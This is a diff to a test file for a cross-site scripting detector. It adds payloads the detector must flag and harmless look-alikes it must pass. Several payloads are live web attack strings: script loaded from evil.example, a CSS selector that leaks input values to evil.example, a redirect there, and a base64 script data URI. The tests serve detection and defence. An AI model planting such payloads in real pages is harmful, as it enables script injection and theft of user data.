@@ -198,8 +198,38 @@ describe('markup and scripts of others', () => {
     '<meta http-equiv="Set-Cookie" content="a=b">',
     '<meta http-equiv=refresh content=0;url=//evil.example>',
     '<img src=https://evil.example/log?c=1 onload=x()>',
+    "'in alert(1) in'",
+    'void alert(1)',
+    'Reflect.apply(alert,0,[1])',
+    "document.body.appendChild(document.createElement('script')).src='//evil.example'",
+    '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
+    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '[a](/b) and [c](javascript:go(1))',
+    'alert(1) in x',
+    '\';!--"<X>=&{()}',
+    "';location='//evil.example'//",
+    "');save(1);'",
+    '<![CDATA[<b>]]>',
   ])('is seen in %j', (text) => {
     expect(surestScore(detectCrossSiteScripting, text)).toBeGreaterThanOrEqual(REFUSED);
+  });
+
+  it.each([
+    'javascript:void(0)',
+    'alert (red)',
+    'An alert (optional) for guests',
+    "alert('done') is annoying",
+    'eval (2020) results',
+    'an eval() at startup time',
+    'print()',
+    'Log::alert($message);',
+    '<![CDATA[some text]]>',
+    '[top](javascript:void(0))',
+    '}, function (string $type, string $output) {',
+    "'; or so it seems",
+    '<p onclick="">x</p>',
+  ])('is not seen in %j', (text) => {
+    expect(surestScore(detectCrossSiteScripting, text)).toBeLessThan(REFUSED);
   });
 
   it('scores what a text quotes as code below what it holds itself', () => {
